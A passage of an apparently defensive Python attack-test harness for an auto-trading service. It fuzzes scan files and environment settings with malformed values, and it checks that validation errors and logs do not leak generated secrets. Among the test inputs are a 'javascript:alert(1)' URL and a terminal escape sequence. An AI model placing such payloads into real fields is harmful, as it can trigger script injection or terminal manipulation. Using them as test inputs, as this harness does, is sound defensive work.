        ("control characters in reason", row(reasons=["a\x1b[2Jb"])),
        ("lowercase code", row(code="abcdef")),
        ("short code", row(code="5930")),
        ("numeric code", row(code=5930)),
        ("code of full-width digits", row(code="００５９３０")),
        ("empty name", row(name="")),
        ("blank name", row(name="   ")),
        ("name of 101 characters", row(name="가" * 101)),
        ("name not text", row(name=12345)),
        ("reasons an object", row(reasons={"why": "up"})),
        ("reasons nested lists", row(reasons=[["a"], ["b"]])),
        ("price and current_price disagree", row(price=rng.choice([-5, 1, 999_999_000]))),
    ]
    picks = bad_rows + rng.sample(bad_rows, 10)
    for what, change in picks:
        rows = _scan_rows(rng, rng.randint(2, 6))
        target = rng.randrange(len(rows))
        change(rows[target])
        if rng.random() < 0.5:
            _judge_scan(tally, "scan_bad_values", what, _payload_reader(_scan(rows)))
        else:
            content = json.dumps(_scan(rows), allow_nan=True).encode()
            _judge_scan(tally, "scan_bad_values", what, from_bytes(content))
    for _ in range(rng.randint(2, 3)):
        rows = _scan_rows(rng, rng.randint(2, 8))
        rows.append(dict(rows[rng.randrange(len(rows))]))
        rng.shuffle(rows)
        _judge_scan(tally, "scan_bad_values", "duplicated code", _payload_reader(_scan(rows)))
    rows = _scan_rows(rng, rng.randint(3_000, MAX_ROWS - 1))
    rows[rng.randrange(len(rows))]["code"] = rows[0]["code"]
    _judge_scan(
        tally,
        "scan_bad_values",
        f"{len(rows):,} rows with one duplicated code",
        from_file("scan_many.json", json.dumps(_scan(rows)).encode()),
    )

    # Stale, future, undated.
    stale: list[tuple[str, dict[str, Any]]] = [
        ("yesterday's scan", {"trading_day": "2026-11-24", "generated_at": "2026-11-24T15:36:00+09:00"}),
        ("tomorrow's scan", {"trading_day": "2026-11-26", "generated_at": "2026-11-26T15:36:00+09:00"}),
        ("a scan of last year", {"trading_day": "2025-11-25", "generated_at": "2025-11-25T15:36:00+09:00"}),
        ("no trading day", {"trading_day": None}),
        ("generated four hours ago", {"generated_at": "2026-11-25T11:39:00+09:00"}),
        ("generated in an hour", {"generated_at": "2026-11-25T16:40:00+09:00"}),
        ("generated next year", {"generated_at": "2027-11-25T15:36:00+09:00"}),
        ("generated on another day", {"generated_at": "2026-11-24T23:50:00+09:00"}),
        ("generated at the start of the calendar", {"generated_at": "0001-01-01T00:00:00+14:00"}),
        ("generated at the end of the calendar", {"generated_at": "9999-12-31T23:59:59-12:00"}),
        ("generated at a number", {"generated_at": 1_764_052_560}),
        ("generated at nonsense", {"generated_at": "yesterday"}),
        ("trading day nonsense", {"trading_day": "2026-02-30"}),
        ("trading day a list", {"trading_day": ["2026-11-25"]}),
    ]
    for what, meta in stale + rng.sample(stale, 4):
        p = _scan(_scan_rows(rng, rng.randint(1, 5)), **meta)
        if rng.random() < 0.5:
            _judge_scan(tally, "scan_stale", what, _payload_reader(p))
        else:
            _judge_scan(tally, "scan_stale", what, from_bytes(json.dumps(p).encode()))
    csv_stale = b"scan_date,code,name,score,price\n2026-11-24,005930,a,8,70000\n"
    _judge_scan(tally, "scan_stale", "CSV of yesterday", from_file("scan_20261125.csv", csv_stale))


# --- settings --------------------------------------------------------------------------------------------


@contextmanager
def _environment(values: dict[str, str]) -> Iterator[None]:
    """Exactly these AUTOTRADE_ variables (others hidden) for the duration."""
    saved = {k: v for k, v in os.environ.items() if k.startswith("AUTOTRADE_")}
    for k in saved:
        del os.environ[k]
    os.environ.update(values)
    try:
        yield
    finally:
        for k in values:
            os.environ.pop(k, None)
        os.environ.update(saved)


def _settings_error(values: dict[str, str]) -> tuple[ValidationError | None, str | None]:
    """The ValidationError of these settings, or what happened instead."""
    with _environment(values):
        try:
            Settings(_env_file=None)
        except ValidationError as exc:
            return exc, None
        except Exception as exc:
            return None, f"unhandled {type(exc).__name__}: {str(exc)[:120]}"
    return None, "accepted"


def settings_attacks(tally: Tally, rng: random.Random) -> None:
    """Invalid settings through the environment must fail at start-up naming the field; secret-bearing
    settings must fail without their value in the error."""
    cases: list[tuple[str, dict[str, str]]] = [
        ("max_daily_investment", {"MAX_DAILY_INVESTMENT": v}) for v in ("-1", "0", "1e7", "ten", "")
    ]
    cases += [
        ("temp_token_ttl_seconds", {"TEMP_TOKEN_TTL_SECONDS": v})
        for v in ("99999999", "0", "-5", "1e9", "300.5", str(10**40))
    ]
    cases += [
        ("max_stock_count", {"MAX_STOCK_COUNT": "-3"}),
        ("max_per_stock", {"MAX_PER_STOCK": "-100"}),
        ("default_daily_limit", {"DEFAULT_DAILY_LIMIT": "0"}),
        ("stop_loss_rate", {"STOP_LOSS_RATE": "-5"}),  # a stop above the entry
        ("stop_loss_rate", {"STOP_LOSS_RATE": "0"}),
        ("stop_loss_rate", {"STOP_LOSS_RATE": "100"}),
        ("stop_loss_rate", {"STOP_LOSS_RATE": "nan"}),
        ("preserve_rate", {"PRESERVE_RATE": "-1"}),
        ("take_profit_rate", {"PRESERVE_RATE": "9", "TAKE_PROFIT_RATE": "8"}),  # the tiers out of order
        ("take_profit_rate", {"PRESERVE_RATE": "8", "TAKE_PROFIT_RATE": "8"}),
        ("take_profit_rate", {"TAKE_PROFIT_RATE": "inf"}),
        ("min_ai_score", {"MIN_AI_SCORE": "abc"}),
        ("min_ai_score", {"MIN_AI_SCORE": "11"}),
        ("min_ai_score", {"MIN_AI_SCORE": "nan"}),
        ("broker_base_url", {"BROKER_BASE_URL": "not a url"}),
        ("broker_base_url", {"BROKER_BASE_URL": "ftp://x"}),
        ("broker_base_url", {"BROKER_BASE_URL": "http://"}),
        ("broker_base_url", {"BROKER_BASE_URL": "javascript:alert(1)"}),
        ("broker_base_url", {"BROKER_BASE_URL": "http://host:port/"}),
        ("broker_ws_url", {"BROKER_WS_URL": "http://127.0.0.1:10000"}),
        ("kms_endpoint_url", {"KMS_ENDPOINT_URL": "localhost:4566"}),
        ("broker_env", {"BROKER_ENV": "live"}),
        ("buy_session", {"BUY_SESSION": "whenever"}),
        ("kms_provider", {"KMS_PROVIDER": "vault"}),
        ("fee_rate", {"FEE_RATE": "NaN"}),
        ("fee_rate", {"FEE_RATE": "-0.1"}),
        ("sell_tax_rate", {"SELL_TAX_RATE": "1e5"}),
        ("broker_rate_per_second", {"BROKER_RATE_PER_SECOND": "inf"}),
        ("broker_rate_per_second", {"BROKER_RATE_PER_SECOND": "0"}),
        ("broker_burst", {"BROKER_BURST": "0"}),
        ("broker_timeout_seconds", {"BROKER_TIMEOUT_SECONDS": "inf"}),
        ("broker_timeout_seconds", {"BROKER_TIMEOUT_SECONDS": "-1"}),
        ("order_settle_seconds", {"ORDER_SETTLE_SECONDS": "nan"}),
        ("batch_size", {"BATCH_SIZE": "0"}),
        ("account_concurrency", {"ACCOUNT_CONCURRENCY": "-1"}),
        ("worker_processes", {"WORKER_PROCESSES": "0"}),
        ("worker_processes", {"WORKER_PROCESSES": "2", "DATABASE_URL": "sqlite:///var/autotrade.db"}),
        ("database_pool_size", {"DATABASE_POOL_SIZE": "0"}),
        ("reconcile_every_minutes", {"RECONCILE_EVERY_MINUTES": "nan"}),
        ("scan_max_age_minutes", {"SCAN_MAX_AGE_MINUTES": "0"}),
        ("allow_rebuy_same_day", {"ALLOW_REBUY_SAME_DAY": "perhaps"}),
    ]
    rng.shuffle(cases)
    for field_name, values in cases:
        exc, other = _settings_error({f"AUTOTRADE_{k}": v for k, v in values.items()})
        named = exc is not None and any(field_name in map(str, e["loc"]) for e in exc.errors())
        bad = other or (None if named else f"the error does not name {field_name}: {exc}")
        tally.record(
            "settings_invalid", f"{values}", bad, str(exc).splitlines()[1] if exc is not None else None
        )

    def secret() -> str:
        s = f"S3cr3t{secrets.token_hex(8)}"
        tally.secrets.add(s)
        return s

    secret_cases: list[tuple[str, Callable[[str], dict[str, str]]]] = [
        (
            "database_url",
            lambda s: {"DATABASE_URL": f"postgresql+psycopg2://autotrade:{s}@db.internal:port/autotrade"},
        ),
        ("database_url", lambda s: {"DATABASE_URL": f"not a url but a password {s}"}),
        ("slack_webhook_url", lambda s: {"SLACK_WEBHOOK_URL": f"http://hooks.slack.com/services/{s}"}),
        ("slack_webhook_url", lambda s: {"SLACK_WEBHOOK_URL": s}),
        ("jwt_signing_key", lambda s: {"JWT_SIGNING_KEY": s[:12]}),
        ("kms_endpoint_url", lambda s: {"KMS_ENDPOINT_URL": f"https://kms:{s}@kms.internal:bad"}),
        ("max_per_stock", lambda s: {"JWT_SIGNING_KEY": s * 4, "MAX_PER_STOCK": "-1"}),
        ("broker_timeout_seconds", lambda s: {"SLACK_TOKEN": f"xoxb-{s}", "BROKER_TIMEOUT_SECONDS": "inf"}),
    ]
    for field_name, make in secret_cases + rng.sample(secret_cases, 3):
        value = secret()
        values = {f"AUTOTRADE_{k}": v for k, v in make(value).items()}
        exc, other = _settings_error(values)
        shown = f"{exc}\n{exc!r}" if exc is not None else ""
        named = exc is not None and any(field_name in map(str, e["loc"]) for e in exc.errors())
        bad = other or (None if named else f"the error does not name {field_name}")
        for candidate in {value, value[:12], value * 4}:
            if candidate in shown:
                bad = f"the secret is in the error: {shown[:160]}"
        tally.texts.append(shown)
        tally.record(
            "settings_secret_echo", f"{field_name} invalid", bad, str(exc).splitlines()[1] if exc else None
        )


# --- the whole run ---------------------------------------------------------------------------------------


def _log_text(records: list[logging.LogRecord]) -> str:
    formatter = logging.Formatter()
    out = []
    for r in records:
        with suppress(Exception):
            out.append(r.getMessage())
        if r.exc_info:
            out.append(formatter.formatException(r.exc_info))
    return "\n".join(out)


def _secret_scan(tally: Tally, db: Database, logs: str) -> None:
    """No secret (keys, app secrets, broker and session tokens, passwords, signing keys) in any refusal,
    answer, log record or database row."""
    dump: list[str] = []
    with db.engine.connect() as conn:
        for table in sa.inspect(conn).get_table_names():
            for row in conn.execute(sa.text(f'SELECT * FROM "{table}"')):
                dump += [v.hex() if isinstance(v, bytes) else str(v) for v in row]
    places = {
        "refusals and answers": "\n".join(tally.texts),
        "log records": logs,
        "database": "\n".join(dump),
    }
    for value in sorted(tally.secrets):
        if len(value) < 8:
            continue
        found = [name for name, text in places.items() if value in text]
        tally.record(
            "secret_echo", f"secret {value[:4]}...", f"found in {', '.join(found)}" if found else None
        )


async def run_attacks(
    *, db_url: str, work: Path, seed: int = 1, progress: Callable[[str], None] = lambda _: None
) -> dict[str, Any]:
    """Every attack kind against a fresh simulator and the database at ``db_url``; the tally as a dict."""
    started = walltime.monotonic()
    rng = random.Random(seed)
    tally = Tally()
    upgrade(db_url)
    db = Database(db_url)
    try:
        with _captured_logs() as logs, running_simulator(seed=seed, start=START) as sim:
            sim.admin.add_stocks(
                [
                    {"code": CODE, "name": "삼성전자", "prev_close": 50_000},
                    {"code": OTHER_CODE, "name": "SK하이닉스", "prev_close": 100_000},
                    {"code": "035720", "name": "카카오", "prev_close": 41_250},
                ]
            )
            world = GatewayWorld(sim, db, work, tally)
            try:
                await gateway_attacks(world, rng, progress)
            finally:
                await world.aclose()
            internal = world.kill_times()
            api = ApiWorld(sim, db, db_url, work, tally)
            try:
                await api_attacks(api, rng, progress)
            finally:
                await api.aclose()
            slowest = api.max_seconds
            tally.secrets.update(t.value for t in sim.engine.tokens.values())
            log_text = _log_text(logs.records)
        step = walltime.monotonic()
        scan_attacks(work / "scans", tally, rng)
        progress(f"scans: {walltime.monotonic() - step:.1f}s")
        settings_attacks(tally, rng)
        _secret_scan(tally, db, log_text)
    finally:
        db.dispose()
    kills = [s for values in tally.kills.values() for s in values]
    return {
        "seed": seed,
        "attacks_tried": {k: tally.tried[k] for k in KINDS},
        "attacks_succeeded": {k: tally.succeeded[k] for k in KINDS},
        "attacks_total_tried": sum(tally.tried.values()),
        "attacks_total_succeeded": sum(tally.succeeded.values()),
        "kill_switch_seconds": round(max(kills), 3) if kills else math.inf,
        "kill_switch_by_rule": {rule: round(max(v), 3) for rule, v in sorted(tally.kills.items())},
        "kill_switch_internal_seconds": round(max(internal), 3) if internal else None,
        "kills": sum(len(v) for v in tally.kills.values()),
        "refusals": {k: dict(v.most_common()) for k, v in sorted(tally.refusals.items())},
        "secrets_checked": tally.tried["secret_echo"],
        "api_bodies_accepted": dict(sorted(tally.accepted.items())),
        "api_slowest_answer_seconds": round(slowest, 2),
        "details": tally.details,
        "notes": tally.notes,
        "seconds": round(walltime.monotonic() - started, 1),
    }
